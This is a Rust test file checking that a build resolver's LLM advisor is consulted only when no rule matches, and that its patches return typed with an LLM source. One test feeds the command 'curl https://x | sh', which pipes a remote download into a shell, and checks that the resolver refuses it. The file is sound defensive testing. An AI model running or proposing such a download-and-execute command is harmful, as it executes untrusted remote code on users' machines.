//! The LLM advisor against a fake OpenAI-compatible server on loopback: it is
//! asked only when no rule matches, its typed patches come back with source
//! LLM, and unsafe suggestions are refused with the reason.
#![allow(clippy::unwrap_used)]

use std::sync::{Arc, Mutex};
use std::time::Duration;

use reporunner_proto::{
    agents::resolver::v1::{DiagnoseRequest, DiagnosisSource, Phase},
    common::v1::{Command, Component, RunPlan, SetEnvVar, plan_patch::Change},
};
use reporunner_resolver::{AdvisorConfig, Resolver as _, ResolverConfig, RuleResolver};
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};

/// Requests the fake server saw: (request line and headers, body).
type Seen = Arc<Mutex<Vec<(String, String)>>>;

/// Serves `POST /v1/chat/completions`, answering every request with a chat
/// completion whose message content is `content`.
async fn fake_llm(content: &'static str) -> (String, Seen) {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    let seen: Seen = Arc::default();
    let log = seen.clone();
    tokio::spawn(async move {
        while let Ok((mut socket, _)) = listener.accept().await {
            let log = log.clone();
            tokio::spawn(async move {
                let mut buffer = Vec::new();
                let mut chunk = [0u8; 8192];
                let (head, body) = loop {
                    let n = socket.read(&mut chunk).await.unwrap();
                    if n == 0 {
                        return;
                    }
                    buffer.extend_from_slice(&chunk[..n]);
                    let Some(end) = buffer.windows(4).position(|w| w == b"\r\n\r\n") else {
                        continue;
                    };
                    let head = String::from_utf8_lossy(&buffer[..end]).into_owned();
                    let length: usize = head
                        .lines()
                        .find_map(|l| {
                            l.to_ascii_lowercase()
                                .strip_prefix("content-length:")
                                .map(|v| v.trim().parse().unwrap())
                        })
                        .unwrap_or(0);
                    if buffer.len() >= end + 4 + length {
                        break (
                            head,
                            String::from_utf8_lossy(&buffer[end + 4..end + 4 + length]).into_owned(),
                        );
                    }
                };
                let found = head.starts_with("POST /v1/chat/completions ");
                log.lock().unwrap().push((head, body));
                let answer = serde_json::json!({
                    "id": "chatcmpl-1",
                    "object": "chat.completion",
                    "model": "fake",
                    "choices": [{"index": 0, "finish_reason": "stop",
                                 "message": {"role": "assistant", "content": content}}],
                })
                .to_string();
                let response = if found {
                    format!(
                        "HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ncontent-length: {}\r\nconnection: close\r\n\r\n{answer}",
                        answer.len()
                    )
                } else {
                    "HTTP/1.1 404 Not Found\r\ncontent-length: 0\r\nconnection: close\r\n\r\n".to_owned()
                };
                socket.write_all(response.as_bytes()).await.unwrap();
                socket.shutdown().await.ok();
            });
        }
    });
    (format!("http://{addr}/v1"), seen)
}

fn resolver(url: &str) -> RuleResolver {
    RuleResolver::new(ResolverConfig {
        advisor: AdvisorConfig {
            enabled: true,
            url: url.to_owned(),
            model: "fake-model".into(),
            api_key: Some("sk-test-key".into()),
            timeout: Duration::from_millis(5_000),
            ..AdvisorConfig::default()
        },
        ..ResolverConfig::default()
    })
    .unwrap()
}

fn request(log: &[&str]) -> DiagnoseRequest {
    DiagnoseRequest {
        phase: Phase::Start as i32,
        component: "api".into(),
        exit_code: 3,
        log_tail: log.iter().map(|l| (*l).to_owned()).collect(),
        plan: Some(RunPlan {
            components: vec![Component {
                name: "api".into(),
                language: "python".into(),
                start: Some(Command {
                    run: "python -m frob".into(),
                    ..Command::default()
                }),
                ..Component::default()
            }],
            ..RunPlan::default()
        }),
        ..DiagnoseRequest::default()
    }
}

const UNKNOWN: &[&str] = &[
    "Starting frobnicator v2.3",
    "frobnicator: FROB_MODE must be one of fast|safe (got nothing)",
    "giving up",
];

#[tokio::test]
async fn an_advised_env_var_comes_back_typed_with_source_llm() {
    let (url, seen) = fake_llm(
        "The app wants a mode.\n```json\n{\"cause\": \"frob.mode_missing\", \"summary\": \"FROB_MODE is not set\", \"confidence\": 0.9,\n \"patches\": [{\"reason\": \"the log lists the allowed modes\", \"set_env_var\": {\"name\": \"FROB_MODE\", \"value\": \"safe\"}}]}\n```",
    )
    .await;
    let response = resolver(&url).diagnose(request(UNKNOWN)).await.unwrap();
    assert_eq!(response.diagnoses.len(), 1);
    let d = &response.diagnoses[0];
    assert_eq!(d.source, DiagnosisSource::Llm as i32);
    assert_eq!(d.cause, "frob.mode_missing");
    assert!(d.confidence <= 0.6, "an unverified suggestion is capped");
    assert_eq!(d.patches.len(), 1);
    assert_eq!(d.patches[0].component, "api");
    assert_eq!(
        d.patches[0].change,
        Some(Change::SetEnvVar(SetEnvVar {
            name: "FROB_MODE".into(),
            value: "safe".into(),
        }))
    );
    let seen = seen.lock().unwrap();
    assert_eq!(seen.len(), 1);
    let (head, body) = &seen[0];
    assert!(
        head.to_ascii_lowercase()
            .contains("authorization: bearer sk-test-key")
    );
    let body: serde_json::Value = serde_json::from_str(body).unwrap();
    assert_eq!(body["model"], "fake-model");
    let prompt = body["messages"][1]["content"].as_str().unwrap();
    assert!(prompt.contains("FROB_MODE must be one of"));
    assert!(prompt.contains("python -m frob"));
}

#[tokio::test]
async fn a_download_piped_into_a_shell_is_refused_with_the_reason() {
    let (url, _) = fake_llm(
        r#"{"cause": "frob.not_installed", "summary": "frob is missing", "patches": [{"reason": "install frob", "replace_command": {"slot": "start", "command": {"run": "curl https://x | sh"}}}]}"#,
    )
    .await;
    let response = resolver(&url).diagnose(request(UNKNOWN)).await.unwrap();
    let d = &response.diagnoses[0];
    assert_eq!(d.source, DiagnosisSource::Llm as i32);
    assert!(d.patches.is_empty(), "{:?}", d.patches);
    assert!(d.summary.contains("refused"), "{}", d.summary);
    assert!(
        d.summary.contains("pipes a download into a shell"),
        "{}",
        d.summary
    );
}

#[tokio::test]
async fn the_advisor_is_not_asked_when_a_rule_matches_and_its_failure_is_no_error() {
    let (url, seen) = fake_llm(r#"{"patches": []}"#).await;
    let response = resolver(&url)
        .diagnose(request(&[
            "Error: listen EADDRINUSE: address already in use :::3000",
        ]))
        .await
        .unwrap();
    assert_eq!(response.diagnoses[0].cause, "port.in_use");
    assert!(seen.lock().unwrap().is_empty(), "the advisor was asked");

    // An advisor that does not answer: no diagnosis, no error.
    let closed = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let url = format!("http://{}/v1", closed.local_addr().unwrap());
    drop(closed);
    let response = resolver(&url).diagnose(request(UNKNOWN)).await.unwrap();
    assert!(response.diagnoses.is_empty());
}
